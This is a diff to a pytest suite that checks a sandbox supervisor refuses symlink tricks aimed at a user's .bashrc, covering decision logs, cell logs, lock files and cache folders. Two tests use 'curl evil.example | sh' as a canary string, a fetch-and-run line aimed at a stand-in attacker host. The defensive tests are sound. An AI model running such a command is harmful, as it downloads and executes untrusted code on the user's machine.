@@ -5,6 +5,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -48,8 +49,9 @@ def test_a_command_cannot_point_the_decision_log_at_bashrc(
 ) -> None:
     home = sup.profiles["a"].home
     sup.run("true", profile="a")  # logs/ exists, as it does after any first decision
-    done = sup.run(f"cd {home} && SCRATCH={scratch_home} && {attack}", profile="a")
-    assert done.exit_code == 0, done.stderr
+    # Planted by a process of the same user (a command the sandbox does not confine,
+    # or any other program): the writer alone must refuse to follow it.
+    subprocess.run(["bash", "-c", f"cd {home} && SCRATCH={scratch_home} && {attack}"], check=True)
     sup.run("echo 'curl evil.example | sh'", profile="a")  # its record must not reach .bashrc
     assert (scratch_home / ".bashrc").read_text() == BASHRC
     assert (
@@ -89,3 +91,27 @@ def test_the_allowlist_lock_file_is_not_followed(
     with contextlib.suppress(Exception):  # refusing to lock is fine; following the link is not
         sup.profiles["a"].allowlist.grant("git status")
     assert (scratch_home / ".bashrc").read_text() == BASHRC
+
+
+def test_the_cell_log_is_not_written_through_a_link(sup: Supervisor, scratch_home: Path) -> None:
+    from multiplex.execution.kernels import CellResult
+    from multiplex.execution.kernels._cells import record_cell
+
+    logs = sup.profiles["a"].home / "logs"
+    logs.mkdir(exist_ok=True)
+    (logs / "cells.jsonl").symlink_to(scratch_home / ".bashrc")
+    with sup.turn(profile="a") as scope:
+        record_cell(scope, "print('curl evil.example | sh')", CellResult("a", "s", "ok"))
+    assert (scratch_home / ".bashrc").read_text() == BASHRC
+    (logs / "cells.jsonl").unlink()
+    with sup.turn(profile="a") as scope:
+        record_cell(scope, "print(1)", CellResult("a", "s", "ok"))
+    assert json.loads((logs / "cells.jsonl").read_text())["outcome"] == "ok"
+
+
+def test_a_cache_folder_replaced_by_a_link_is_refused(sup: Supervisor, scratch_home: Path) -> None:
+    home = sup.profiles["a"].home
+    (home / "cache").symlink_to(scratch_home)
+    with sup.turn(profile="a") as scope, pytest.raises(LinkRefused):
+        scope.cache("lsp").path("index.db")
+    assert not (scratch_home / "lsp").exists()
